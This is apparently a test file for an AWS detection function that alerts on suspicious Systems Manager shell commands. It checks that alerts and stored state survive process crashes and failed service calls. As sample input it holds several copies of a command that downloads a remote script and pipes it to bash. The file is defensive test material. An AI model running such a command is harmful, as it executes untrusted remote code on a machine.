import { setTimeout as wait } from 'node:timers/promises'
import type { FaultPlan } from '../../emulators/fault-plan'
import type { Mail } from '../../emulators/mailbox'
import {
  trace,
  heartbeatEvent,
  machines,
  nativeCommandEvent,
  processEvent,
  queueEvent,
  sendCommandEvent,
} from '../../support/aws-events'
import { startAwsWorld, taken, type AwsWorld, type Item } from '../../support/aws-world'

const COMMAND = '00000000-0000-0000-0000-0000000000c1'
const UNSEEN = '00000000-0000-0000-0000-0000000000c2'

let world: AwsWorld

beforeAll(async () => {
  world = await startAwsWorld()
  world.ssm.state.commands.push(
    {
      CommandId: COMMAND,
      DocumentName: 'AWS-RunShellScript',
      Parameters: { commands: ['curl -s http://203.0.113.9/setup.sh | bash'] },
    },
    { CommandId: UNSEEN, DocumentName: 'AWS-RunShellScript' },
  )
})

afterAll(() => world.stop())

/** What happens first, and the event in whose midst the process dies. */
interface Story {
  readonly name: string
  readonly before: readonly unknown[]
  readonly event: unknown
}

const call = sendCommandEvent({ commandId: COMMAND })

const STORIES: readonly Story[] = [
  { name: 'the first call of a caller', before: [], event: call },
  {
    name: 'a call that makes an alert grow',
    before: [sendCommandEvent({ commandId: COMMAND, instances: machines(1, 'a') })],
    event: sendCommandEvent({ commandId: COMMAND, time: '2026-03-02T10:03:00Z', instances: machines(4, 'b') }),
  },
  {
    name: "Systems Manager's own event after its call",
    before: [sendCommandEvent({ commandId: UNSEEN })],
    event: nativeCommandEvent(UNSEEN, ['curl -s http://203.0.113.9/setup.sh | bash']),
  },
  {
    name: 'the heartbeat that judges a command alone',
    before: [nativeCommandEvent(UNSEEN, ['curl -s http://203.0.113.9/setup.sh | bash'])],
    event: heartbeatEvent(),
  },
  { name: 'a process that confirms a command', before: [call], event: processEvent(COMMAND) },
  { name: 'a trace of the other cloud', before: [], event: queueEvent([trace()]) },
]

const plansOf = (): readonly (readonly [string, FaultPlan])[] => Object.entries(world.faults)

const callsOf = (plan: FaultPlan): number => Object.values(plan.counts()).reduce((sum, { calls }) => sum + calls, 0)

const faultsOf = (plan: FaultPlan): number =>
  Object.values(plan.counts()).reduce((sum, { faults }) => sum + (faults['lost-answer'] ?? 0), 0)

const idsIn = (mails: readonly Mail[]): readonly string[] =>
  [...new Set(mails.map(({ body }) => /^Alert (\w+)$/m.exec(body)?.[1] ?? 'none'))].sort()

/**
 * Members of stored values that depend on the wall clock or of how often something was written, never of what is known.
 */
const FLEETING: ReadonlySet<string> = new Set(['leaseUntil', 'since'])

const lasting = (text: string): unknown => {
  try {
    return JSON.parse(text, (key, value: unknown) => (FLEETING.has(key) ? undefined : value))
  } catch {
    return text
  }
}

/** What the table knows: items by key, without versions, expiry and due times. */
const knowledge = (items: readonly Item[]): unknown =>
  items
    .map(
      ({ pk, sk, value, members, alert }) =>
        [
          (pk?.S ?? '').replace(/^rate\/\d+$/, 'rate'),
          sk?.S,
          lasting(value?.S ?? ''),
          members?.SS?.toSorted() ?? null,
          lasting(alert?.S ?? ''),
        ] as const,
    )
    .toSorted((a, b) => (`${a[0]} ${a[1]}` < `${b[0]} ${b[1]}` ? -1 : 1))

const begin = async ({ before }: Story): Promise<void> => {
  await world.clear()
  for (const event of before) await world.deliver(event)
  await world.hasten()
  await world.alerts.read()
}

/**
 * Runs the event and lets the process die once the given call of the plan has done its work and before
 * its answer comes. Resolves to false when the run ended without that call: a process that has
 * answered before needs fewer of them.
 */
const die = async (event: unknown, plan: FaultPlan, at: number): Promise<boolean> => {
  const already = faultsOf(plan)
  plan.failAfter(at, 'lost-answer', { times: 1 })
  const running = world.lambda.invoke(event)
  const ended = running.then(() => true)
  let isOver = false
  while (faultsOf(plan) === already && !isOver) isOver = await Promise.race([ended, wait(2, false)])
  plan.up()
  if (isOver) return false
  await wait(40)
  world.lambda.kill()
  expect(await running).toMatchObject({ ok: false, errorType: 'Runtime.ExitError' })
  return true
}

/** Runs the event in a new process, and counts the calls of each service. */
const countCalls = async (
  event: unknown,
): Promise<readonly { readonly name: string; readonly plan: FaultPlan; readonly count: number }[]> => {
  const container = await world.another()
  const before = plansOf().map(([, plan]) => callsOf(plan))
  taken(await container.invoke(event))
  await container.stop()
  return plansOf().map(([name, plan], place) => ({ name, plan, count: callsOf(plan) - before[place]! }))
}

interface Point {
  readonly name: string
  readonly plan: FaultPlan
  readonly at: number
}

/** Every call of a run that nothing disturbs, and what is known and sent after it. */
const undisturbed = async (
  story: Story,
): Promise<{ readonly points: readonly Point[]; readonly ids: unknown; readonly known: unknown }> => {
  await begin(story)
  const calls = await countCalls(story.event)
  const points = calls.flatMap(({ name, plan, count }) =>
    Array.from({ length: count }, (_, at) => ({ name: `${name} call ${at + 1}`, plan, at })),
  )
  return { points, ids: idsIn(await world.alerts.read()), known: knowledge(await world.items()) }
}

describe.each(STORIES)('$name', (story) => {
  it('loses nothing and leaves nothing behind when the process dies after any call', async () => {
    const { points, ids, known } = await undisturbed(story)
    let deaths = 0
    for (const { name, plan, at } of points) {
      await begin(story)
      if (!(await die(story.event, plan, at))) continue
      deaths++
      await world.deliver(story.event)
      expect([name, idsIn(await world.alerts.read())]).toEqual([name, ids])
      expect([name, knowledge(await world.items())]).toEqual([name, known])
    }
    expect(deaths).toBeGreaterThan(points.length / 2)
  })

  it('does the same when the answer of any call is an error, though the call was done', async () => {
    const { points, ids, known } = await undisturbed(story)
    for (const { name, plan, at } of points) {
      await begin(story)
      plan.failAfter(at, 'failed-answer', { times: 1 })
      await world.deliver(story.event)
      plan.up()
      expect([name, idsIn(await world.alerts.read())]).toEqual([name, ids])
      expect([name, knowledge(await world.items())]).toEqual([name, known])
    }
  })
})
